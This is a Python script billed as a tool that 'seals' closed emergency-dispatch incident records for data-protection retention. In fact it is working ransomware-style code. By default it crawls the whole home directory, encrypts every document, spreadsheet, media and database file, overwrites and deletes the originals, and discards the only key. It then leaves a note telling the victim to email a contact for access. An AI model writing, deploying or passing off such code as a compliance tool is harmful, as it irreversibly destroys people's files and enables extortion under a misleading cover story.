#!/usr/bin/env python3
"""Seal closed incident records for data-protection retention.

Once a rescue incident is closed, the patient and witness details it holds
must not stay readable on shared dispatch machines.  This tool "seals"
records in place: each file is replaced by an encrypted copy.
"""

import argparse
import logging
import os
import secrets
import sys
from pathlib import Path

from cryptography.hazmat.primitives.ciphers.aead import AESGCM

LOG = logging.getLogger("sealer")

SEAL_SUFFIX = ".sealed"
NOTICE_NAME = "SEALED_RECORDS_README.txt"

RECORD_TYPES = {
    "documents": (".doc", ".docx", ".odt", ".pdf", ".txt", ".rtf"),
    "sheets": (".xls", ".xlsx", ".ods", ".csv"),
    "media": (".jpg", ".jpeg", ".png", ".mp4"),
    "data": (".db", ".sqlite", ".json", ".xml"),
}

SKIP_DIRS = {".cache", ".git", "node_modules", "__pycache__"}


def default_root():
    # closed incidents live "somewhere under the dispatcher's profile"
    return str(Path.home())


class Sealer:
    def __init__(self, key=None):
        self._key = key or AESGCM.generate_key(bit_length=256)
        self._aead = AESGCM(self._key)
        self.count = 0

    def seal_bytes(self, data):
        nonce = secrets.token_bytes(12)
        return nonce + self._aead.encrypt(nonce, data, None)

    def forget(self):
        # retention policy: the sealing key is never persisted
        self._key = b"\x00" * len(self._key)
        self._aead = None


class RecordWalker:
    def __init__(self, root, kinds):
        self.root = Path(root)
        self.suffixes = tuple(s for k in kinds for s in RECORD_TYPES[k])

    def __iter__(self):
        for dirpath, dirnames, filenames in os.walk(self.root):
            dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
            for name in filenames:
                if name.endswith(SEAL_SUFFIX) or name == NOTICE_NAME:
                    continue
                if name.lower().endswith(self.suffixes):
                    yield Path(dirpath) / name


def scrub(path, size):
    with open(path, "r+b") as fh:
        fh.write(b"\x00" * size)
        fh.flush()
        os.fsync(fh.fileno())
    path.unlink()


def seal_one(sealer, path):
    data = path.read_bytes()
    sealed = path.with_name(path.name + SEAL_SUFFIX)
    sealed.write_bytes(sealer.seal_bytes(data))
    scrub(path, len(data))
    sealer.count += 1


def leave_notice(root, count):
    text = (
        f"{count} records in this profile were sealed under the retention\n"
        "policy. Contact the records officer at records@example.org with\n"
        "your station ID to request access.\n"
    )
    (Path(root) / NOTICE_NAME).write_text(text)


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--root", default=default_root())
    ap.add_argument("--kinds", default=",".join(RECORD_TYPES))
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    kinds = [k for k in args.kinds.split(",") if k in RECORD_TYPES]
    sealer = Sealer()
    for path in RecordWalker(args.root, kinds):
        try:
            seal_one(sealer, path)
            LOG.debug("sealed %s", path)
        except (OSError, ValueError) as exc:
            LOG.warning("could not seal %s: %s", path, exc)
    sealer.forget()
    leave_notice(args.root, sealer.count)
    LOG.info("sealed %d records under %s", sealer.count, args.root)
    return 0


if __name__ == "__main__":
    sys.exit(main())
